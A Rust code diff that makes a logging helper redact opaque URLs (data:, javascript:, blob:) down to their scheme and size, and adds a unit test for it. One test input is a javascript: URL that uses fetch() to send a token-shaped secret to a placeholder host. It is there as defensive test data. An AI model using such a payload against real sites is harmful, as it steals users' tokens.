@@ -80,6 +80,11 @@ pub fn is_secret_key(key: &str) -> bool {
 /// A URL fit for a log line: no userinfo, secret query values replaced by `<redacted>`,
 /// no fragment (OAuth implicit flows put tokens there).
 pub fn url(url: &Url) -> String {
+    // `data:`, `javascript:`, `blob:`… carry their payload in an opaque path (a data URL can
+    // hold a whole token answer): show the scheme and the size only.
+    if url.cannot_be_a_base() || url.scheme() == "blob" {
+        return format!("{}:<{} bytes>", url.scheme(), url.as_str().len());
+    }
     let mut u = url.clone();
     let _ = u.set_username("");
     let _ = u.set_password(None);
@@ -119,6 +124,21 @@ mod tests {
         assert_eq!(format!("{s:?} {s}"), "<redacted> <redacted>");
         assert_eq!(s.expose(), "eyJhbGciOi.secret");
         assert_eq!(serde_json::to_string(&s).unwrap(), "\"eyJhbGciOi.secret\"");
+    }
+
+    /// Found by tests/hostile.rs (`--forge data-redirect`): a refused `data:` URL holding a
+    /// token-shaped JSON was quoted whole in the refusal message.
+    #[test]
+    fn opaque_urls_show_only_their_scheme_and_size() {
+        for s in [
+            "data:application/json,%7B%22token%22%3A%22eyJsecret%22%7D",
+            "javascript:fetch('//x/?t='+eyJsecret)",
+            "blob:https://idp.example/eyJsecret",
+        ] {
+            let r = url_str(s);
+            assert!(!r.contains("eyJsecret"), "{r}");
+            assert!(r.ends_with(" bytes>"), "{r}");
+        }
     }
 
     #[test]
